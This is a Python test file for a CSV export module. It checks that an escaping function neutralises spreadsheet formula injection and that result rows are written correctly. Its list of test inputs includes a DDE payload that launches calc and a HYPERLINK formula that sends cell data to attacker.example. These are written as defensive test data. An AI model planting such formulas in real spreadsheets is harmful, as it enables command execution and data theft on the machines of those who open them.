from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from mde_files.batch import result_lines, spreadsheet
from mde_files.batch.inputs import Item
from mde_files.batch.journal import Journal
from mde_files.errors import QuotaExhaustedError, StateUnavailableError
from mde_files.render.escaping import for_csv

from .conftest import FakeEnricher, record

if TYPE_CHECKING:
    from pathlib import Path

FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "   @x",
    "\u00a0=1",
    "\u3000=1",
    "\u200b=1",
    "\ufeff=1",
    "=1",
    "+1",
    "-1",
    "@x",
    "﹦1",
    "\u22121",
    "'=1",
    '"=1',
    '","=1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "|=1",
    "\x00=1",
    "\x1b=1",
]
# What spreadsheets pass over or strip, or what begins a formula.
STARTS = "=+-@\t\r\n"


def is_formula(cell: str) -> bool:
    return cell.lstrip(' \u00a0\u3000\u200b\ufeff\0\x1b"').startswith(tuple(STARTS + "=+-@﹦﹢﹣﹫\u2212"))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(text: str) -> None:
    cell = for_csv(text)
    assert isinstance(cell, str)
    assert not is_formula(cell)
    assert cell.isprintable()


@given(st.text(st.sampled_from("=+-@=|' \",;\t\r\n\u00a0\u200bab1"), max_size=8) | st.text(max_size=12))
@example("=")
def test_whatever_the_text_a_csv_reader_gets_it_back_and_it_is_no_formula(text: str) -> None:
    cell = for_csv(text)
    written = io.StringIO()
    csv.writer(written, quoting=csv.QUOTE_ALL).writerow([cell, "next"])
    ((read, after),) = csv.reader(io.StringIO(written.getvalue(), newline=""))
    assert (read, after) == (cell, "next")
    assert not is_formula(read)


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (14850, 14850), (-1, -1), ("a=b", "a=b"), ("a-b", "a-b")])
def test_what_is_harmless_stays_as_it_is(value: Any, cell: Any) -> None:
    assert for_csv(value) == cell


@pytest.fixture
def journal(tmp_path: Path) -> Any:
    made = Journal(tmp_path / "out.csv.jsonl", resume=False)
    yield made
    made.close()


def test_results_are_rows_in_the_order_of_the_inputs(journal: Journal, tmp_path: Path) -> None:
    alerts = record("file_alerts")
    alerts["file_alerts"] = {"total": 3, "by_severity": {"high": 2, "medium": 1, "low": 0}}
    alerts["caveats"] = [{"code": "stale_cache", "message": "x"}, {"code": "device_groups", "message": "x"}]
    late = QuotaExhaustedError("=no room", hint="later", retry_at="2026-11-21T20:00:42Z")
    deferred = FakeEnricher().failure("file_stats", {"file_hash": "=1"}, late)
    journal.append(result_lines.written([Item(3, "=1", "=contoso")], deferred))
    journal.append(result_lines.written([Item(2, "b")], alerts))
    journal.append(result_lines.written([Item(1, "a"), Item(4, "\ud800ä")], record()))
    path = tmp_path / "out.csv"
    spreadsheet.write(journal, path)
    assert path.stat().st_mode & 0o777 == 0o600
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert tuple(rows[0]) == spreadsheet.COLUMNS
    assert [row["line"] for row in rows] == ["1", "2", "3", "4"]
    stats, alerted, later, last = rows
    assert stats["organization_prevalence"] == "14850"
    assert stats["outcome"] == "seen_in_organization"
    assert stats["sha1"] == "0" * 40
    assert stats["portal_url"].startswith("https://")
    assert (alerted["total_alerts"], alerted["high_alerts"], alerted["low_alerts"]) == ("3", "2", "0")
    assert alerted["caveats"] == "stale_cache device_groups"
    assert (later["input"], later["tenant"], later["error_message"]) == ("'=1", "'=contoso", "'=no room")
    assert (later["error_code"], later["retry_at"]) == ("quota_exhausted", "2026-11-21T20:00:42Z")
    assert last["input"] == "\\ud800ä"


def test_a_csv_that_cannot_be_written_is_told(journal: Journal, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.mkdir()
    with pytest.raises(StateUnavailableError, match=r"The CSV .* cannot be written") as caught:
        spreadsheet.write(journal, path)
    assert "out.csv.jsonl" in caught.value.hint
    assert [file.name for file in tmp_path.iterdir()] != [".out.csv.new"]
    assert not (tmp_path / ".out.csv.new").exists()
